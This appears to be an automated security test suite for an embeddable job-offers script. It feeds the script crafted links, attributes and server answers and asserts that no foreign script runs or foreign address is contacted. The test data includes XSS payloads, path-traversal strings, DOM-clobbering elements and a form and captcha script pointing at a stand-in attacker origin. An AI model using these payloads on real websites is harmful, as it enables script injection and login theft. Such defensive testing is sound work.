/**
 * What a link, an element or an answer cannot make `embed.js` do on a page of another site: run a script, show an element
 * of somebody else, ask another address.
 */
import fc from 'fast-check';
import type { Page } from 'playwright-core';
import { createApp } from '../../actions-server/app.ts';
import { listen } from '../../actions-server/listen.ts';
import { createDemoAccount, demoKeys } from '../../standalone/demo/demo-data.ts';
import { startTestApi } from '../support/api.ts';
import { startBrowser } from '../support/browser.ts';
import { startCaptchaService } from '../support/captcha-service.ts';
import { startChangingProxy } from '../support/changing-proxy.ts';
import { startOtherSite } from '../support/other-site.ts';

const api = await startTestApi();
const keys = demoKeys({ privateKey: undefined, publicKey: undefined });
await createDemoAccount(api.dependencies.hasura, keys);
const { rows } = await api.database.pool.query<{ id: string }>(
  `select id from offers where "referenceId" = 'DEMO-BACKEND'`,
);
const [offer = ''] = rows.map(({ id }) => id);

const captcha = await startCaptchaService();
const { dependencies } = api;
const config = { ...dependencies.config, captcha: captcha.settings() };
const asking = await listen(createApp({ ...dependencies, config }), dependencies.log, 0, '127.0.0.1');
const proxy = await startChangingProxy(`http://127.0.0.1:${asking.port}`, '/jobs');

/** Whatever is asked here was asked by somebody else's text. */
const evilRequests: string[] = [];
const evil = await startOtherSite(({ url = '/' }, response) => {
  evilRequests.push(url);
  response.writeHead(200, { 'Content-Type': 'text/javascript', 'Access-Control-Allow-Origin': '*' });
  response.end('window.attacked = "a script was loaded";');
});

const nonce = 'a-nonce-of-the-page';
const policies = {
  'no policy': null,
  'a policy with a nonce': `script-src 'nonce-${nonce}'`,
  'strict-dynamic with Trusted Types': `script-src 'nonce-${nonce}' 'strict-dynamic'; require-trusted-types-for 'script'; trusted-types job-offers job-offers-loader`,
} as const;
type Policy = keyof typeof policies;

/** The other site: each page has the tag with these attributes, under a policy, and HTML before it. */
const site = await startOtherSite(({ url = '/' }, response) => {
  const { searchParams } = new URL(url, 'http://site.invalid');
  const policy = policies[searchParams.get('policy') as Policy];
  response.writeHead(200, {
    'Content-Type': 'text/html; charset=utf-8',
    ...(policy && { 'Content-Security-Policy': policy }),
  });
  response.end(`<!doctype html><html lang="en"><head><title>Example Ltd</title></head><body><main><h1>Work with us</h1>
${searchParams.get('before') ?? ''}
<script src="${searchParams.get('server')}/embed.js" data-key="${keys.publicKey.secret}" ${searchParams.get('attributes') ?? 'data-offers'} nonce="${nonce}" async></script>
</main></body></html>`);
});

// The other server says itself what was asked of it: a redirect to it counts as a request before the browser refuses it.
const browser = await startBrowser([
  evil.origin,
  api.baseUrl,
  site.origin,
  new URL(proxy.baseUrl).origin,
  captcha.origin,
]);
/** Faults but those that pages of these tests have on purpose: the policy stops the captcha, and answers are errors. */
const faults = () => browser.faults().filter((fault) => !/<job-offers>|Failed to load resource/.test(fault));
beforeEach(() => {
  proxy.changes = {};
  evilRequests.length = 0;
});
afterEach(() => {
  expect(evilRequests).toEqual([]);
  expect(faults()).toEqual([]);
});
afterAll(async () => {
  await browser.close();
  await site.close();
  await evil.close();
  await proxy.close();
  await asking.stop(0);
  await captcha.close();
  await api.stop();
});

interface Opened {
  readonly policy?: Policy;
  readonly server?: string;
  readonly attributes?: string;
  readonly before?: string;
  readonly hash?: string;
}

let opened = 0;

/** A page of the other site, and the addresses that it asks of the server of the offers. */
async function open({ hash = '', ...parameters }: Opened): Promise<{ page: Page; asked: string[] }> {
  const page = await browser.openNext({ locale: 'en-GB' });
  page.setDefaultTimeout(8_000);
  const asked: string[] = [];
  // A number: the same address with another end would not be opened anew.
  opened += 1;
  const all = { policy: 'no policy', server: api.baseUrl, opened: String(opened), ...parameters };
  page.on('request', (request) => {
    const url = request.url();
    if (request.resourceType() === 'document' || url === 'data:,') return;
    asked.push(url.startsWith(all.server) ? url.slice(all.server.length) : url);
  });
  await page.goto(`${site.origin}/?${new URLSearchParams(all)}${hash}`);
  await settled(page);
  return { page, asked };
}

/** Waits until the element shows something, and does not ask for anything else. */
async function settled(page: Page): Promise<void> {
  await page.locator('job-offers [data-jobs]:not([aria-busy]) > *').first().waitFor({ state: 'attached' });
}

/** What must be on no page: the mark of the one who wrote the link. */
const tracesOf = `({
  attacked: globalThis.attacked ?? null,
  title: document.title,
  elements: [document, document.querySelector('job-offers')?.shadowRoot].flatMap((root) =>
    [...(root?.querySelectorAll('[data-evil]') ?? [])].map(({ outerHTML }) => outerHTML)),
})`;
const traces = (page: Page) => page.evaluate<unknown>(tracesOf);
const nothing = { attacked: null, title: 'Example Ltd', elements: [] };

const pagePath = /^\/embed\/-\/en(\/apply|\/offers\/[\w-]+(\/apply)?)?(\?|$)/;
const isExpected = (path: string) =>
  /^\/embed\.js$|^\/embed\/embed\.\w+\.js$/.test(path) || pagePath.test(path);

const injected = `<main data-accent=1><img data-evil src=x onerror=attacked=1><form data-application data-evil action=${evil.origin}/login><div data-captcha='{"script":"${evil.origin}/x.js","object":"x","field":"y"}'><div data-sitekey=1></div></div><p data-send-status data-status></p></form></main>`;
const reflecting = `rest/v2/offers?${encodeURIComponent(injected)}=1`;
const hashes = [
  `#offer=../../../../${reflecting}`,
  `#offer=../../../../rest/v2/offers?${injected}=1`,
  `#offer=..%2f..%2f..%2f..%2f${reflecting}`,
  `#offer=%2e%2e/%2e%2e/%2e%2e/%2e%2e/${reflecting}`,
  `#offer=..\\..\\..\\..\\${reflecting}`,
  `#offer=..`,
  `#offer=.`,
  `#offer=%2e%2e`,
  `#offer=%2E%2E&apply`,
  `#offer=..&apply`,
  `#offer=${offer}/../../../../../${reflecting}`,
  `#offer=${offer}?${encodeURIComponent(injected)}=1`,
  `#offer=?x=1`,
  `#offer=//${new URL(evil.origin).host}/`,
  `#offer=/${new URL(evil.origin).host}`,
  `#offer=${evil.origin}/x`,
  `#offer=\\\\${new URL(evil.origin).host}\\x`,
  '#offer=javascript:attacked=1',
  '#offer=data:text/html,<main data-accent data-evil>',
  '#offer=%0a%0d%00',
  '#offer=%',
  '#offer=a#b',
  `#jobs-apply/../../../${reflecting}`,
  `#jobs-apply?${injected}`,
  `#${evil.origin}`,
  '#javascript:attacked=1',
];

const piece = fc.oneof(
  fc.constantFrom(
    '../',
    '..',
    '.',
    '/',
    '//',
    '\\',
    '..\\',
    '?',
    '#',
    '&',
    '&apply',
    '=',
    ';',
    '@',
    ':',
    '%',
    '%2e',
    '%2E',
    '%2e%2e/',
    '%2f',
    '%5c',
    '%252e',
    '%00',
    '%0d%0a',
    '\t',
    '\n',
    ' ',
    '\u2028',
    '\u202e',
    'javascript:',
    'data:text/html,',
    'blob:',
    evil.origin,
    new URL(evil.origin).host,
    'rest/v2/offers',
    'offer=',
    'offers/',
    'embed/',
    offer,
    injected,
    encodeURIComponent(injected),
    reflecting,
    'é',
    '😀',
  ),
  fc.string({ maxLength: 8 }),
);
const hash = fc
  .tuple(
    fc.constantFrom('#offer=', '#offer=../../../../', '#offer=..%2f', '#jobs-apply', '#'),
    fc.array(piece, { maxLength: 6 }),
  )
  .map(([start, pieces]) => start + pieces.join(''));

// The program does the same under every policy, which only forbids more, and with the end of an address that is opened as
// with one that changes: all ends are tried without a policy, below.
describe.each(Object.keys(policies) as Policy[])('under %s', (policy) => {
  test('a link runs no script, shows no element and asks no other address, as it is opened', async () => {
    for (const tried of hashes.filter((_, index) => index % (policy === 'no policy' ? 3 : 6) === 0)) {
      const { page, asked } = await open({ policy, hash: tried });
      expect([tried, await traces(page)]).toEqual([tried, nothing]);
      expect([tried, asked.filter((path) => !isExpected(path))]).toEqual([tried, []]);
      expect(await page.locator('job-offers [data-jobs] > *').count()).toBeGreaterThan(0);
    }
  });

  test('no element of a form names the script of the captcha', async () => {
    const script = `${evil.origin}/x.js`;
    const element = `<div data-put-in data-captcha='{"script":"${script}","object":"evil","field":"x"}'><div data-sitekey="1"></div></div>`;
    // What an account could never write is put into the form itself, before everything that the server has written.
    proxy.changes = {
      change: (_path, { body, ...answered }) => ({
        ...answered,
        body: body
          .replace(/<form[^>]*data-application[^>]*>/, `$&${element}`)
          // As a server that is told that it is below a path.
          .replaceAll('"/embed/', '"/jobs/embed/'),
      }),
    };
    const { page } = await open({ policy, server: proxy.baseUrl, attributes: 'data-apply="DEMO-BACKEND"' });
    await page.locator('job-offers [data-put-in]').waitFor({ state: 'attached' });
    await page.locator(`script[src="${captcha.origin}/script.js"]`).waitFor({ state: 'attached' });
    expect(await page.locator(`script[src^="${evil.origin}"]`).count()).toBe(0);
    expect(await page.evaluate('globalThis.attacked ?? null')).toBeNull();
  });

  test('no element of the page hides from the program where it is from', async () => {
    const before = `<img name="currentScript" src="data:,"><form name="currentScript" action="${evil.origin}"></form>
<a id="currentScript" href="${evil.origin}/embed.js"></a>`;
    const { page, asked } = await open({ policy, before });
    expect(asked.filter((path) => !isExpected(path))).toEqual([]);
    await page.getByRole('link', { name: /Backend developer/ }).waitFor();
  });
});

test('two hundred generated ends of the address, one after another, run no script, show no element and ask no other address', async () => {
  const { page, asked } = await open({});
  let last = '';
  await fc.assert(
    fc.asyncProperty(hash, async (tried) => {
      last = tried;
      const before = asked.length;
      // As `settled` and `traces`, in one call.
      const found = await page.evaluate(`(async () => {
        location.hash = ${JSON.stringify(tried)};
        await new Promise((done) => setTimeout(done));
        const { shadowRoot } = document.querySelector('job-offers');
        while (shadowRoot.querySelector('[data-jobs]:not([aria-busy]) > *') === null)
          await new Promise((done) => setTimeout(done, 2));
        return ${tracesOf};
      })()`);
      expect(found).toEqual(nothing);
      expect(asked.slice(before).filter((path) => !isExpected(path))).toEqual([]);
    }),
    { numRuns: 200 + hashes.length, examples: hashes.map((tried): [string] => [tried]) },
  );
  expect(last).not.toBe('');
});

test('an attribute leads to no other address either', async () => {
  for (const attributes of [
    `data-offer=".."`,
    `data-offer="."`,
    `data-apply=".."`,
    `data-offer="../../../../rest/v2/offers?x"`,
    `data-offer="..%2f..%2f"`,
    `data-site=".." data-offers`,
    `data-site="../.." data-offers`,
    `data-server="${evil.origin}" data-offers`,
    `data-lang="../../.." data-offers`,
    `data-words="&x=/../" data-offers`,
  ]) {
    const { page, asked } = await open({ attributes });
    expect([attributes, await traces(page)]).toEqual([attributes, nothing]);
    const others = asked.filter(
      (path) => !isExpected(path) && !/^\/embed\/[^/.?]+\/en(\/offers\/[^/?]+)?(\?|$)/.test(path),
    );
    expect([attributes, others]).toEqual([attributes, []]);
  }
});

test('an element of the page that names another server gets nothing from it', async () => {
  const before = `<job-offers data-key="pk_x" data-server="${evil.origin}" data-offers></job-offers>`;
  await open({ before });
  expect(evilRequests).toEqual([]);
});

test.each(['/other/', 'https://elsewhere.invalid/other/', '//elsewhere.invalid/'])(
  'the address stays that of the page, whose own links start at %s',
  async (base) => {
    const { page } = await open({ before: `<base href="${base}">` });
    const address = page.url();
    await page.getByRole('link', { name: /Backend developer/ }).click();
    await page.getByRole('link', { name: 'All jobs' }).first().waitFor();
    expect(page.url()).toBe(`${address}#offer=${offer}`);
    await page.getByRole('link', { name: 'All jobs' }).first().click();
    await page.getByRole('link', { name: /Backend developer/ }).waitFor();
    expect(page.url()).toBe(address);
    await page.goBack();
    await page.getByRole('link', { name: 'All jobs' }).first().waitFor();
    expect(page.url()).toBe(`${address}#offer=${offer}`);
  },
);

describe('what is no page of the server is not shown', () => {
  const page = '<main data-accent="#000" data-evil><p data-evil>evil</p></main>';
  const html = { 'Content-Type': 'text/html; charset=utf-8', 'X-Careers-Page': '{"captcha":null}' };
  const cors = { 'Access-Control-Allow-Origin': '*', 'Access-Control-Expose-Headers': 'X-Careers-Page' };
  test.each<[string, number, Record<string, string>]>([
    ['JSON', 200, { ...html, 'Content-Type': 'application/json' }],
    ['plain text', 200, { ...html, 'Content-Type': 'text/plain' }],
    ['an answer without a type', 200, { 'X-Careers-Page': '{}' }],
    ['HTML of another program', 200, { 'Content-Type': 'text/html' }],
    ['an error of a proxy', 502, { 'Content-Type': 'text/html' }],
    ['an error as JSON', 404, { 'Content-Type': 'application/json' }],
    ['HTML that says nothing that can be read of itself', 200, { ...html, 'X-Careers-Page': '<p>' }],
    ['a redirect to another path', 302, { Location: '/jobs/rest/v2/offers' }],
    ['a redirect to another page', 302, { Location: '/jobs/embed/-/en' }],
    ['a redirect to another origin', 302, { Location: `${evil.origin}/embed/-/en` }],
  ])('%s', async (_name, status, headers) => {
    proxy.changes = {
      answer(request, response) {
        if (request.method === 'OPTIONS' || !request.url?.startsWith('/jobs/embed/-/')) return false;
        response.writeHead(status, { ...cors, ...headers }).end(page);
        return true;
      },
    };
    const { page: shown } = await open({ server: proxy.baseUrl });
    expect(await shown.locator('job-offers [role=alert]').count()).toBe(1);
    expect(await traces(shown)).toEqual(nothing);
  });
});
